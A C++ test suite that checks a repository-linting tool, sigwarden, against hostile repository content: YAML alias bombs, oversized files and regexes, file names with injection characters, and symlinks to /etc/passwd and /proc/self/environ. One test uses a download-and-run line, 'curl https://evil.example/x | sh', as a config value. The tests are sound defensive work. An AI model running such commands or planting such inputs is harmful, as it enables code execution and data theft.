// Hostile repositories: what a contributor can put in a pull request must give a clear finding
// or a clear error, never a crash, a hang or an unbounded allocation. Each case runs the real
// command line on a real git repository.
#include <git2.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <cstdlib>
#include <filesystem>
#include <nlohmann/json.hpp>
#include <string>

#include "git/repository.h"
#include "support/cli.h"
#include "support/repo_builder.h"

namespace sigwarden {
namespace {

using testing::FileMode;
using testing::RepoBuilder;
using testing::run_cli;
using testing::TempDir;
using namespace std::string_literals;

const git::Library kLibgit2;

// An openEuler-style registry with one well-formed SIG, to which each test adds its poison.
void base_registry(RepoBuilder& b) {
  b.put("sig/good/README.md", "# good\n\nMailing list: good@lists.example.org\n");
  b.put("sig/good/sig-info.yaml",
        "name: good\ndescription: fine\nmailing_list: good@lists.example.org\nmaintainers:\n"
        "- gitee_id: alice\n  name: Alice\n");
}

TEST(HostileInput, YamlAliasBombIsNotExpanded) {
  TempDir dir;
  {
    RepoBuilder b(dir.path());
    base_registry(b);
    // 10^12 nodes if anything expanded the aliases.
    std::string yaml = "name: good\nmaintainers:\n- gitee_id: alice\n";
    yaml += "a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n";
    for (int i = 1; i < 12; ++i) {
      std::string prev = "*a" + std::to_string(i - 1);
      yaml += "a" + std::to_string(i) + ": &a" + std::to_string(i) + " [";
      for (int k = 0; k < 10; ++k) yaml += (k ? ", " : "") + prev;
      yaml += "]\n";
    }
    yaml += "repositories: *a11\ndirectories: *a11\n";
    b.put("sig/good/sig-info.yaml", yaml);
    b.commit("bomb");
  }
  for (const char* command : {"lint", "owners", "audit"}) {
    std::vector<std::string> args = {command, "--repo", dir.path().string(), "--format", "json"};
    if (std::string(command) == "owners") args.push_back("--all");
    auto r = run_cli(args);
    EXPECT_NE(r.status, 2) << command << ": " << r.err;
    if (std::string(command) == "lint") {
      EXPECT_NE(r.out.find("unknown key 'a0' in sig-info.yaml"), std::string::npos) << r.out;
    }
  }
}

TEST(HostileInput, DeeplyNestedYamlIsAFinding) {
  TempDir dir;
  {
    RepoBuilder b(dir.path());
    base_registry(b);
    b.put("sig/good/sig-info.yaml", std::string(100000, '[') + std::string(100000, ']'));
    b.commit("deep");
  }
  auto r = run_cli({"lint", "--repo", dir.path().string()});
  EXPECT_EQ(r.status, 1) << r.err;
  EXPECT_NE(
      r.out.find("sig/good/sig-info.yaml:1:1: error: sig/good/sig-info.yaml is not valid YAML"),
      std::string::npos)
      << r.out;
}

TEST(HostileInput, HundredThousandLineFiles) {
  TempDir dir;
  {
    RepoBuilder b(dir.path());
    base_registry(b);
    std::string codeowners;
    std::string readme = "# good\n\nMailing list: good@lists.example.org\n\n## Leads\n\n";
    for (int i = 0; i < 100000; ++i) {
      codeowners +=
          "/src/area" + std::to_string(i) + "/ @org/team-" + std::to_string(i % 50) + "\n";
      readme += "- line " + std::to_string(i) + "\n";
    }
    b.put(".github/CODEOWNERS", codeowners);
    b.put("sig/good/README.md", readme);
    b.put("src/area99999/x.c", "x\n");
    b.commit("big");
  }
  auto owners = run_cli({"owners", "--repo", dir.path().string(), "src/area99999/x.c"});
  EXPECT_EQ(owners.status, 0) << owners.err;
  EXPECT_NE(owners.out.find("@org/team-49"), std::string::npos) << owners.out;
  EXPECT_NE(owners.out.find("CODEOWNERS:100000"), std::string::npos) << owners.out;
  auto lint = run_cli({"lint", "--repo", dir.path().string(), "--format", "json"});
  EXPECT_NE(lint.status, 2) << lint.err;
}

TEST(HostileInput, OversizedRegexesInConfigurationAreErrors) {
  struct Case {
    std::string config;
    std::string command;
    std::string message;
  };
  for (const Case& c : std::vector<Case>{
           {"extend_patterns:\n  lead_heading: ['((\\pL{30}){30})']\n", "lint",
            ".sigwarden.yaml:2: extend_patterns.lead_heading: invalid RE2 pattern "
            "'((\\pL{30}){30})': pattern too large - compile failed"},
           {"report:\n  bots: ['((\\pL{30}){30})']\n", "report",
            ".sigwarden.yaml:2: report.bots pattern '((\\pL{30}){30})' is not a valid regular "
            "expression: pattern too large - compile failed"},
           {"teams: '@org/((\\pL{30}){30})(.+)'\n", "owners",
            ".sigwarden.yaml:1: teams: invalid RE2 pattern"},
           {"extend_patterns:\n  lead_heading: ['(a{1000}){1000}']\n", "lint",
            "invalid repetition size"},
       }) {
    TempDir dir;
    {
      RepoBuilder b(dir.path());
      base_registry(b);
      b.put(".sigwarden.yaml", c.config);
      b.commit("config");
    }
    auto r = run_cli({c.command, "--repo", dir.path().string()});
    EXPECT_EQ(r.status, 2) << c.config;
    EXPECT_NE(r.err.find(c.message), std::string::npos) << r.err;
  }
}

TEST(HostileInput, PathsWithNewlinesQuotesDashesAndNonAscii) {
  TempDir dir;
  {
    RepoBuilder b(dir.path());
    base_registry(b);
    b.put("weird/-rf", "x\n");
    b.put("weird/my dir/a b.md", "x\n");
    b.put(".github/CODEOWNERS", "/weird/my\\ dir/ @org/spaces\n");
    b.put("weird/new\nline::error::x", "x\n");
    b.put("weird/quo\"te", "x\n");
    b.put("weird/\xc3\xbcn\xc3\xaf", "x\n");
    b.put("weird/\x1b[31mred", "x\n");
    b.commit("weird paths");
  }
  auto text = run_cli({"owners", "--repo", dir.path().string(), "--all"});
  ASSERT_EQ(text.status, 0) << text.err;
  EXPECT_NE(text.out.find("weird/new\\x0aline::error::x: unowned"), std::string::npos) << text.out;
  EXPECT_EQ(text.out.find('\x1b'), std::string::npos);
  EXPECT_NE(text.out.find("weird/-rf: unowned"), std::string::npos);
  EXPECT_NE(text.out.find("weird/my dir/a b.md: (no SIG)\n  owners: @org/spaces\n"),
            std::string::npos)
      << text.out;
  auto json = run_cli({"owners", "--repo", dir.path().string(), "--all", "--format", "json"});
  ASSERT_EQ(json.status, 0) << json.err;
  std::string all = nlohmann::json::parse(json.out).dump();
  EXPECT_NE(all.find("weird/new\\nline::error::x"), std::string::npos);  // JSON keeps the byte
  auto tsv = run_cli({"owners", "--repo", dir.path().string(), "--all", "--format", "tsv"});
  EXPECT_NE(tsv.out.find("weird/new\\x0aline::error::x\t"), std::string::npos) << tsv.out;
  EXPECT_EQ(tsv.out.find('\x1b'), std::string::npos);
  EXPECT_NE(tsv.out.find("weird/my dir/a b.md\t\t\t@org/spaces\t"), std::string::npos) << tsv.out;
  // Every record has the seven fields of the header, whatever its path holds.
  std::size_t start = 0;
  for (std::size_t nl = tsv.out.find('\n'); nl != std::string::npos;
       start = nl + 1, nl = tsv.out.find('\n', start)) {
    std::string line = tsv.out.substr(start, nl - start);
    EXPECT_EQ(std::count(line.begin(), line.end(), '\t'), 6) << line;
  }
}

TEST(HostileInput, SymlinkedReadmeAndSubmoduleFolder) {
  TempDir dir;
  {
    RepoBuilder b(dir.path());
    base_registry(b);
    b.put("sig/linked/README.md", "../../../../etc/passwd", FileMode::kSymlink);
    b.put("sig/linked/sig-info.yaml", "name: linked\nmaintainers:\n- gitee_id: bob\n");
    b.put("sig/sub", "0123456789012345678901234567890123456789", FileMode::kSubmodule);
    b.commit("links");
  }
  auto r = run_cli({"lint", "--repo", dir.path().string()});
  EXPECT_EQ(r.status, 1) << r.err;
  // The symlink is not followed (it would leave the repository); the README counts as missing.
  EXPECT_EQ(r.out.find("root:"), std::string::npos);
  EXPECT_NE(r.out.find("SIG 'linked': folder sig/linked has no README"), std::string::npos)
      << r.out;
  // A submodule (gitlink) under sig/ is not a folder: no SIG, no finding, no crash.
  EXPECT_EQ(r.out.find("sig/sub"), std::string::npos) << r.out;
}

TEST(HostileInput, SymlinkedOwnershipFilesAreNotFollowed) {
  // A symlink is a blob holding a path; sigwarden reads trees, never the file system, so the
  // target is neither read nor used: the files count as absent.
  TempDir dir;
  {
    RepoBuilder b(dir.path());
    base_registry(b);
    b.put(".github/CODEOWNERS", "/etc/passwd", FileMode::kSymlink);
    b.put("src/OWNERS", "../../../etc/hostname", FileMode::kSymlink);
    b.put("MAINTAINERS", "/proc/self/environ", FileMode::kSymlink);
    b.put("src/a.c", "x\n");
    b.commit("links");
  }
  auto r = run_cli({"audit", "--repo", dir.path().string(), "--format", "json"});
  EXPECT_NE(r.status, 2) << r.err;
  auto doc = nlohmann::json::parse(r.out);
  EXPECT_EQ(doc["indexFiles"], nlohmann::json::array()) << r.out;  // no ownership file was read
  auto owners = run_cli({"owners", "--repo", dir.path().string(), "src/a.c"});
  EXPECT_NE(owners.out.find("src/a.c: unowned"), std::string::npos) << owners.out;
  EXPECT_EQ(owners.out.find("root"), std::string::npos) << owners.out;
}

TEST(HostileInput, BlobMissingFromTheObjectStore) {
  TempDir dir;
  {
    RepoBuilder b(dir.path());
    base_registry(b);
    b.commit("base");
  }
  // What a partial clone (--filter=blob:none) looks like: trees name blobs that are absent.
  int removed = 0;
  {
    git_repository* repo = nullptr;
    ASSERT_EQ(git_repository_open(&repo, dir.path().string().c_str()), 0);
    git_odb* odb = nullptr;
    ASSERT_EQ(git_repository_odb(&odb, repo), 0);
    std::vector<git_oid> blobs;
    struct Ctx {
      git_odb* odb;
      std::vector<git_oid>* blobs;
    } ctx{odb, &blobs};
    git_odb_foreach(
        odb,
        [](const git_oid* id, void* payload) {
          auto* c = static_cast<Ctx*>(payload);
          std::size_t size = 0;
          git_object_t type{};
          if (git_odb_read_header(&size, &type, c->odb, id) == 0 && type == GIT_OBJECT_BLOB) {
            c->blobs->push_back(*id);
          }
          return 0;
        },
        &ctx);
    std::string git_dir = git_repository_path(repo);
    for (const git_oid& id : blobs) {
      char hex[GIT_OID_HEXSZ + 1];
      git_oid_tostr(hex, sizeof hex, &id);
      std::string h = hex;
      removed += std::filesystem::remove(std::filesystem::path(git_dir) / "objects" /
                                         h.substr(0, 2) / h.substr(2))
                     ? 1
                     : 0;
    }
    git_odb_free(odb);
    git_repository_free(repo);
  }
  ASSERT_GT(removed, 0);
  auto lint = run_cli({"lint", "--repo", dir.path().string()});
  EXPECT_EQ(lint.status, 2);
  EXPECT_NE(lint.err.find("is not in the object store (a partial clone?"), std::string::npos)
      << lint.err;
  // The health report reads the registry files at the as-of commit (blobs too): a clear error.
  auto report = run_cli({"report", "--repo", dir.path().string(), "--format", "json"});
  EXPECT_EQ(report.status, 2);
  EXPECT_NE(report.err.find("not in the object store"), std::string::npos) << report.err;
}

TEST(HostileInput, FilesOverTheSizeLimits) {
  // The limits of docs/security.md: registry text files 4 MiB (file-too-large), CODEOWNERS 3 MB
  // (GitHub ignores it: codeowners-too-large), OWNERS/OWNERS_ALIASES/MAINTAINERS 16 MiB
  // (ownership-file-too-large). Only sizes are read for files over a limit.
  TempDir dir;
  {
    RepoBuilder b(dir.path());
    base_registry(b);
    b.put("sig/good/README.md", "# good\n\nMailing list: good@lists.example.org\n" +
                                    std::string(std::size_t{4} << 20, 'x'));
    std::string line = "/src/ @org/team\n";
    std::string codeowners;
    while (codeowners.size() < std::size_t{3} * 1024 * 1024) codeowners += line;
    b.put(".github/CODEOWNERS", codeowners);
    std::string owners = "approvers:\n";
    while (owners.size() <= std::size_t{16} << 20) owners += "- someone-with-a-long-name\n";
    b.put("src/OWNERS", owners);
    b.put("docs/OWNERS", "approvers:\n- big\n");  // OWNERS_ALIASES is read for OWNERS files
    b.put("OWNERS_ALIASES", "aliases:\n  big:\n" + owners.substr(11));
    b.put("MAINTAINERS", "X\nM:\tA <a@example.org>\nF:\tsrc/\n" + owners);
    b.put("src/x.c", "x\n");
    b.commit("big files");
  }
  auto lint = run_cli({"lint", "--repo", dir.path().string()});
  EXPECT_EQ(lint.status, 1) << lint.err;
  EXPECT_NE(lint.out.find("sig/good/README.md: error: sig/good/README.md is 4194349 bytes, over "
                          "the limit of 4194304 bytes: not read [file-too-large]"),
            std::string::npos)
      << lint.out;
  auto audit = run_cli({"audit", "--repo", dir.path().string()});
  EXPECT_NE(audit.status, 2) << audit.err;
  EXPECT_NE(audit.out.find("GitHub ignores a CODEOWNERS file of 3 MB or more"), std::string::npos)
      << audit.out;
  for (const char* file : {"src/OWNERS", "MAINTAINERS", "OWNERS_ALIASES"}) {
    EXPECT_NE(audit.out.find(std::string(file) + ": warning: " + file + " is "), std::string::npos)
        << file << "\n"
        << audit.out;
  }
  EXPECT_NE(audit.out.find("over sigwarden's limit of 16777216 bytes: not read "
                           "[ownership-file-too-large]"),
            std::string::npos)
      << audit.out;
  // .sigwarden.yaml decides every command: over the limit, nothing runs.
  {
    TempDir big;
    RepoBuilder b(big.path());
    base_registry(b);
    b.put(".sigwarden.yaml", "# " + std::string((std::size_t{4} << 20) + 1, 'x') + "\n");
    b.commit("big config");
    auto r = run_cli({"lint", "--repo", big.path().string()});
    EXPECT_EQ(r.status, 2);
    EXPECT_NE(r.err.find("read configuration .sigwarden.yaml: 4194308 bytes, over the limit of "
                         "4194304 bytes"),
              std::string::npos)
        << r.err;
  }
  // .mailmap maps every identity of the health report: over the limit, the report stops.
  {
    TempDir big;
    RepoBuilder b(big.path());
    base_registry(b);
    b.put(".mailmap", std::string((std::size_t{4} << 20) + 1, '#'));
    b.commit("big mailmap");
    auto r = run_cli({"report", "--repo", big.path().string(), "--as-of", "main"});
    EXPECT_EQ(r.status, 2);
    EXPECT_NE(r.err.find("read .mailmap of " + big.path().string() +
                         ": 4194305 bytes, over the limit of 4194304 bytes"),
              std::string::npos)
        << r.err;
  }
  // Nothing in the files that were not read assigns an owner.
  auto owners = run_cli({"owners", "--repo", dir.path().string(), "src/x.c"});
  EXPECT_EQ(owners.status, 0) << owners.err;
  EXPECT_NE(owners.out.find("src/x.c: unowned"), std::string::npos) << owners.out;
}

TEST(HostileInput, InvalidUtf8AndNulBytes) {
  TempDir dir;
  {
    RepoBuilder b(dir.path());
    base_registry(b);
    b.put("sig/good/README.md", "# good\n\nMailing list: good@lists.example.org\n\nbad \xff\xfe\n");
    b.put("sig/bin/README.md", "# bin\0\0\0"s);
    b.put("sig/bin/sig-info.yaml", "name: bin\nmaintainers:\n- gitee_id: b\xc3\n");
    b.put(".github/CODEOWNERS", "/src/ @org/t\xff\n/docs/ @a\0b\n* @org/root\n"s);
    b.put("src/OWNERS", "approvers:\n- \"\xff\xfe\"\n");
    b.put("MAINTAINERS", "Area\nM:\tA\0 <a@example.org>\nF:\tsrc/\n"s);
    b.put("src/x.c", "x\n");
    b.commit("bad bytes");
  }
  auto lint = run_cli({"lint", "--repo", dir.path().string(), "--format", "json"});
  EXPECT_EQ(lint.status, 1) << lint.err;
  std::string out = nlohmann::json::parse(lint.out).dump();
  EXPECT_NE(out.find("sig/good/README.md is not valid UTF-8 (first bad byte at line 5, column 5)"),
            std::string::npos)
      << out;
  EXPECT_NE(out.find("sig/bin/README.md contains NUL bytes (a binary file?): not read"),
            std::string::npos)
      << out;
  EXPECT_NE(out.find("sig/bin/sig-info.yaml is not valid UTF-8"), std::string::npos) << out;
  // Ownership files: bad owners are findings, the rest of the file applies, and every output
  // format stays valid (invalid bytes become U+FFFD in JSON).
  for (const char* format : {"json", "sarif", "gitlab", "rdjson"}) {
    auto audit = run_cli({"audit", "--repo", dir.path().string(), "--format", format});
    EXPECT_NE(audit.status, 2) << format << ": " << audit.err;
    EXPECT_TRUE(nlohmann::json::accept(audit.out)) << format;
    EXPECT_NE(audit.out.find("\xef\xbf\xbd"), std::string::npos) << format;
  }
  auto audit = run_cli({"audit", "--repo", dir.path().string()});
  EXPECT_NE(audit.out.find(".github/CODEOWNERS:1:7: warning: owner '@org/t"), std::string::npos)
      << audit.out;
  auto owners = run_cli(
      {"owners", "--repo", dir.path().string(), "--format", "json", "src/x.c", "docs/y.md"});
  ASSERT_EQ(owners.status, 0) << owners.err;
  auto doc = nlohmann::json::parse(owners.out);
  EXPECT_EQ(doc["paths"][1]["owners"], nlohmann::json::array({"@org/root"})) << owners.out;
}

TEST(HostileInput, CrlfAndBomMixes) {
  TempDir dir;
  {
    RepoBuilder b(dir.path());
    b.put("sig/good/README.md", "\xef\xbb\xbf# good\r\n\r\nMailing list: good@lists.example.org\n");
    b.put("sig/good/sig-info.yaml",
          "\xef\xbb\xbfname: good\r\ndescription: fine\r\nmailing_list: good@lists.example.org\n"
          "maintainers:\r\n- gitee_id: alice\r\n  name: Alice\r\n");
    b.put(".github/CODEOWNERS", "\xef\xbb\xbf/src/ @org/a\r\n/sig/ @org/b\n/docs/ @org/c\r\n");
    b.put("src/OWNERS",
          "\xef\xbb\xbf"
          "approvers:\r\n- carol\r\n");
    b.put("src/x.c", "x\n");
    b.commit("crlf");
  }
  auto lint = run_cli({"lint", "--repo", dir.path().string(), "--format", "json"});
  EXPECT_EQ(lint.status, 0) << lint.err << lint.out;
  auto doc = nlohmann::json::parse(lint.out);
  ASSERT_EQ(doc["findings"].size(), 1u) << lint.out;  // the README names no lead; nothing else
  EXPECT_EQ(doc["findings"][0]["rule"], "readme-lead-missing");
  auto owners = run_cli(
      {"owners", "--repo", dir.path().string(), "src/x.c", "sig/good/README.md", "docs/a.md"});
  ASSERT_EQ(owners.status, 0) << owners.err;
  EXPECT_NE(owners.out.find("src/x.c: (no SIG)\n  owners: @org/a carol\n"), std::string::npos)
      << owners.out;
  EXPECT_NE(owners.out.find("sig/good/README.md: good\n  owners: @alice @org/b\n"
                            "  lists: good@lists.example.org\n"),
            std::string::npos)
      << owners.out;
  EXPECT_NE(owners.out.find("docs/a.md: (no SIG)\n  owners: @org/c\n"), std::string::npos)
      << owners.out;
  EXPECT_EQ(owners.out.find('\r'), std::string::npos);
}

TEST(HostileInput, ShallowClones) {
  // A real `git clone --depth 1`: commands that read one revision work; the gate and the review,
  // which need the merge base, and the report, which needs history, exit 2 with the fix.
  TempDir origin;
  {
    RepoBuilder b(origin.path());
    base_registry(b);
    b.commit("one", 1700000000);
    b.put("src/x.c", "x\n");
    std::string fork = b.commit("two", 1700003600);
    b.put("src/z.c", "z\n");
    b.commit("three on main", 1700007200);
    b.checkout("feature", fork);
    b.put("src/y.c", "y\n");
    b.commit("three on the feature branch", 1700007200);
  }
  TempDir clone;
  std::string cmd = "git clone -q --depth 1 --no-single-branch file://" + origin.path().string() +
                    " " + (clone.path() / "c").string() + " 2>&1";
  ASSERT_EQ(std::system(cmd.c_str()), 0) << cmd;
  std::string repo = (clone.path() / "c").string();
  ASSERT_TRUE(std::filesystem::exists(clone.path() / "c/.git/shallow"));
  for (const char* command : {"lint", "audit"}) {
    auto r = run_cli({command, "--repo", repo});
    EXPECT_NE(r.status, 2) << command << ": " << r.err;
  }
  auto owners = run_cli({"owners", "--repo", repo, "--all"});
  EXPECT_EQ(owners.status, 0) << owners.err;
  for (const char* command : {"check", "review"}) {
    auto r =
        run_cli({command, "--repo", repo, "--base", "origin/main", "--head", "origin/feature"});
    EXPECT_EQ(r.status, 2) << command << ": " << r.out;
    EXPECT_NE(r.err.find("shallow clone"), std::string::npos) << command << ": " << r.err;
    EXPECT_NE(r.err.find("fetch-depth: 0"), std::string::npos) << command << ": " << r.err;
  }
  auto report = run_cli({"report", "--repo", repo});
  EXPECT_EQ(report.status, 2);
  EXPECT_NE(report.err.find("fetch-depth: 0"), std::string::npos) << report.err;
  // Deep enough to hold the merge base (--depth 2): the gate and the review run, and say what
  // they say on the full history.
  std::string deeper = (clone.path() / "c2").string();
  cmd = "git clone -q --depth 2 --no-single-branch file://" + origin.path().string() + " " +
        deeper + " 2>&1";
  ASSERT_EQ(std::system(cmd.c_str()), 0) << cmd;
  for (const char* command : {"check", "review"}) {
    std::vector<std::string> args = {command,          "--base",   "origin/main", "--head",
                                     "origin/feature", "--format", "json"};
    auto shallow = run_cli([&] {
      auto a = args;
      a.insert(a.end(), {"--repo", deeper});
      return a;
    }());
    EXPECT_NE(shallow.status, 2) << command << ": " << shallow.err;
    auto full = run_cli([&] {
      auto a = args;
      a[2] = "main";
      a[4] = "feature";
      a.insert(a.end(), {"--repo", origin.path().string()});
      return a;
    }());
    auto same = [](std::string text) {  // without the repository and the branch names
      for (auto at = text.find("origin/"); at != std::string::npos; at = text.find("origin/")) {
        text.erase(at, 7);
      }
      auto doc = nlohmann::json::parse(text);
      doc.erase("repository");
      return doc;
    };
    EXPECT_EQ(same(shallow.out), same(full.out)) << command;
  }
}

TEST(HostileInput, ConfigurationCannotRunCommandsOrFetchAnything) {
  // .sigwarden.yaml has no key that names a command, a URL to fetch or another file to include:
  // such keys are unknown, and an unknown key stops every command (exit 2) instead of being
  // ignored. (tests/policy_test.cc checks that the code has no call that could do either.)
  for (const char* name : {"exec", "run", "hooks", "include", "extends", "plugins", "url"}) {
    std::string key = name;
    TempDir dir;
    {
      RepoBuilder b(dir.path());
      base_registry(b);
      b.put(".sigwarden.yaml", key + ": 'curl https://evil.example/x | sh'\n");
      b.commit("config");
    }
    for (const char* command : {"lint", "audit", "report"}) {
      auto r = run_cli({command, "--repo", dir.path().string()});
      EXPECT_EQ(r.status, 2) << key << " " << command;
      EXPECT_NE(r.err.find(".sigwarden.yaml:1: unknown key '" + key + "' in the configuration"),
                std::string::npos)
          << r.err;
    }
  }
}

TEST(HostileInput, RevisionThatDoesNotExist) {
  TempDir dir;
  {
    RepoBuilder b(dir.path());
    base_registry(b);
    b.commit("base");
  }
  for (const char* command : {"lint", "owners", "audit", "report"}) {
    auto r = run_cli({command, "--repo", dir.path().string(), "--rev", "no-such-rev"});
    EXPECT_EQ(r.status, 2) << command;
    EXPECT_NE(r.err.find("resolve revision 'no-such-rev'"), std::string::npos) << r.err;
    EXPECT_NE(r.err.find("no such revision"), std::string::npos) << r.err;
  }
}

}  // namespace
}  // namespace sigwarden
